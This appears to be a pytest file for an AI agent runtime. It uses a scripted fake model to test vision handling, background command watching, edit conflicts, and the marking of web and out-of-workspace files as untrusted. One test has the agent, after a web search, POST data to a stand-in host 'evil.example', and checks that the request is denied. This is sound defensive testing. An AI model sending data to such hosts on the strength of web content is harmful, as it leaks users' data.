"""In a running core: pictures are seen, the web is read with care, watched lines are told."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

from hermes_tui.configuration.load import load
from hermes_tui.events import Notice, ToolEnded, TurnEnded
from hermes_tui.home import Home
from hermes_tui.runtime.core import Core
from hermes_tui.runtime.local import LocalClient
from tests.fakes.documents import png
from tests.fakes.scripted_model import Reply, ScriptedModel, call
from tests.fakes.scripted_model import say as reply
from tests.fakes.small_web import Page, SmallWeb
from tests.runtime.conftest import open_in, say, until


async def started(home: Home, url: str, more: dict[str, Any], sees: str = "yes") -> Core:
    model = {"name": "scripted", "base_url": url, "sees": sees}
    home.config.write_text(json.dumps({"model": model, **more}))
    return await Core(home, load(home, {}).config, headless=True).start()


async def played(
    core: Core, folder: Path, scripted: ScriptedModel, *script: Reply, text: str = "go"
) -> list[ToolEnded]:
    """One turn of the script; what its tools came to."""
    scripted.script = list(script)
    client = LocalClient(core, through_codec=True)
    view = await open_in(client, str(folder))
    await say(client, view, text)
    records = await until(client, TurnEnded)
    await client.close()
    return [one.event for one in records if isinstance(one.event, ToolEnded)]


def pictures_in(messages: list[dict[str, Any]]) -> list[str]:
    parts = [
        part for one in messages if isinstance(one["content"], list) for part in one["content"]
    ]
    return [part["image_url"]["url"] for part in parts if part["type"] == "image_url"]


async def test_a_picture_that_is_read_is_seen_and_the_history_repeats_byte_for_byte(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    (tmp_path / "a.png").write_bytes(png(8, 8))
    core = await started(home, scripted.url, {})
    done = await played(core, tmp_path, scripted, call("read_file", path="a.png"), reply("grey"))
    assert [one.status for one in done] == ["ok"]
    first = scripted.requests[-1].messages
    assert len(pictures_in(first)) == 1
    (tmp_path / "a.png").write_bytes(png(1, 1))
    await core.end("again")
    core = await started(home, scripted.url, {})
    scripted.script = [reply("still grey")]
    client = LocalClient(core, through_codec=True)
    view = await open_in(client, str(tmp_path), "last")
    await say(client, view, "and now?")
    await until(client, TurnEnded)
    await client.close()
    await core.end("over")
    again = scripted.requests[-1].messages
    assert again[: len(first)] == first


async def test_a_model_that_does_not_see_gets_words_alone(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    (tmp_path / "a.png").write_bytes(png(8, 8))
    core = await started(home, scripted.url, {}, sees="no")
    await played(core, tmp_path, scripted, call("read_file", path="a.png"), reply("?"))
    await core.end("over")
    messages = scripted.requests[-1].messages
    assert pictures_in(messages) == []
    assert "8×8 pixels" in messages[-1]["content"]


async def test_an_attached_picture_goes_with_the_words(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    core = await started(home, scripted.url, {})
    folder = home.outputs / "s" / "attached"
    folder.mkdir(parents=True)
    (folder / "shot.png").write_bytes(png(8, 8))
    text = f"what is [attached image {folder}/shot.png (PNG, 8×8, 1 KB)]?"
    await played(core, tmp_path, scripted, reply("grey"), text=text)
    await core.end("over")
    (url,) = pictures_in(scripted.requests[-1].messages)
    assert url.startswith("data:image/png;base64,")


async def test_vision_asks_the_configured_model_when_the_own_one_is_blind(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    (tmp_path / "a.png").write_bytes(png(8, 8))
    asked = call("vision", image="a.png", question="What is it?")
    async with ScriptedModel(reply("A grey square."), name="seer") as seer:
        vision = {"vision": {"name": "seer", "base_url": seer.url}}
        core = await started(home, scripted.url, vision, sees="no")
        done = await played(core, tmp_path, scripted, asked, reply("it is grey"))
        await core.end("over")
        assert done[0].for_model == "A grey square."
        assert len(pictures_in(seer.requests[-1].messages)) == 1
        assert seer.requests[-1].messages[-1]["content"][0]["text"] == "What is it?"


async def test_vision_without_a_model_that_sees_says_what_to_set(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    (tmp_path / "a.png").write_bytes(png(8, 8))
    core = await started(home, scripted.url, {}, sees="no")
    asked = call("vision", image="a.png", question="What is it?")
    done = await played(core, tmp_path, scripted, asked, reply("I can't"))
    await core.end("over")
    assert done[0].status == "error"
    assert "vision.name" in done[0].for_model


async def test_what_the_web_says_is_untrusted_and_a_host_it_names_asks(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    found = {"results": [{"title": "A", "url": "https://found.example/a", "content": "text"}]}
    page = Page(json.dumps(found).encode(), "application/json")
    async with SmallWeb({"/search": page}) as site:
        web = {"web": {"engine": "searxng", "base_url": f"http://127.0.0.1:{site.port}"}}
        core = await started(home, scripted.url, web)
        scripted.script = [
            call("web_search", query="grow nasturtiums"),
            call("http_request", url="https://evil.example/x", method="POST", body="hi"),
            reply("done"),
        ]
        client = LocalClient(core, through_codec=True)
        view = await open_in(client, str(tmp_path))
        await say(client, view, "look it up", attended=False)
        records = await until(client, TurnEnded)
        await client.close()
        await core.end("over")
    searched, sent = (one.event for one in records if isinstance(one.event, ToolEnded))
    assert searched.untrusted == "the web"
    assert searched.found == ("https://found.example/a",)
    assert sent.status == "denied"
    assert "evil.example" in sent.for_model


async def test_a_watched_line_reaches_the_session_and_the_model(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    core = await started(home, scripted.url, {"agent": {"mode": "yolo"}})
    command = "echo server ready; read x"
    scripted.script = [
        call("run_command", command=command, background=True, watch="ready"),
        reply("started"),
        reply("yes"),
    ]
    client = LocalClient(core, through_codec=True)
    view = await open_in(client, str(tmp_path))
    await say(client, view, "start it")
    records = await until(client, TurnEnded)
    if not any(isinstance(one.event, Notice) for one in records):
        records += await until(client, Notice)
    told = [one.event.text for one in records if isinstance(one.event, Notice)]
    assert "server ready" in told[-1]
    await say(client, view, "is it up?")
    await until(client, TurnEnded)
    await client.close()
    await core.end("over")
    assert "server ready" in scripted.requests[-1].messages[-1]["content"]


async def test_a_file_changed_meanwhile_is_not_overwritten_in_a_turn(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    file = tmp_path / "f.txt"
    file.write_text("one\n")
    core = await started(home, scripted.url, {"agent": {"mode": "yolo"}})

    def edits_after_a_change(_: object) -> Reply:
        file.write_text("one\ntwo\n")
        return call("edit_file", path="f.txt", old="one", new="1")

    script: list[Any] = [call("read_file", path="f.txt"), edits_after_a_change, reply("no")]
    done = await played(core, tmp_path, scripted, *script)
    await core.end("over")
    assert [one.status for one in done] == ["ok", "error"]
    assert "+two" in done[1].for_model
    assert await asyncio.to_thread(file.read_text) == "one\ntwo\n"


async def test_a_file_outside_the_workspace_is_untrusted_and_one_inside_is_not(
    home: Home, scripted: ScriptedModel, tmp_path: Path
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (work / "in.txt").write_text("inside")
    (tmp_path / "out.txt").write_text("outside")
    core = await started(home, scripted.url, {})
    names = [call("read_file", path="in.txt"), call("read_file", path="../out.txt")]
    done = await played(core, work, scripted, *names, reply("read"))
    await core.end("over")
    assert [bool(one.untrusted) for one in done] == [False, True]
    assert "out.txt" in done[1].untrusted
